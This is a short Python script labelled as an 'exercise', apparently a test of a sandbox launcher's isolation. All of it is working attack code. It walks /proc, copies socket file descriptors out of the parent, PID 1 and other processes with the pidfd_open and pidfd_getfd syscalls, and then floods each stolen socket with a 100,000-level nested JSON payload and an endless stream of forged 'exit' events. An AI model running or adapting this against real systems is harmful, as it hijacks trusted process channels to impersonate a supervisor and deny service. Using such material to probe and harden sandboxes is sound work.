# exercise: ledger
"""Takes the launcher's socket to the trusted side out of the launcher, and speaks for it.

Aims: forged events, a flood of them, messages without end, in the hope that somebody believes
or never stops reading.
Ends: not_yet or could_not_tell
"""

import ctypes
import json
import os
import socket
import stat
import struct
import threading


def stolen():
    libc = ctypes.CDLL(None, use_errno=True)
    for parent in {os.getppid(), 1, *[int(n) for n in os.listdir("/proc") if n.isdigit()]}:
        if parent == os.getpid():
            continue
        handle = libc.syscall(434, parent, 0)  # pidfd_open
        for number in range(3, 64):
            copy = libc.syscall(438, handle, number, 0)  # pidfd_getfd
            if copy > 0 and stat.S_ISSOCK(os.fstat(copy).st_mode):
                yield socket.socket(fileno=copy)


def shout(channel):
    event = json.dumps({"event": "exit", "name": "x" * 1000, "status": 0}).encode()
    deep = b'{"event":' + b"[" * 100_000
    try:
        channel.sendall(struct.pack("!I", len(deep)) + deep)
        while True:
            channel.sendall(struct.pack("!I", len(event)) + event)
    except OSError:
        return


for channel in list(stolen()):
    threading.Thread(target=shout, args=(channel,), daemon=True).start()
# app: shipped
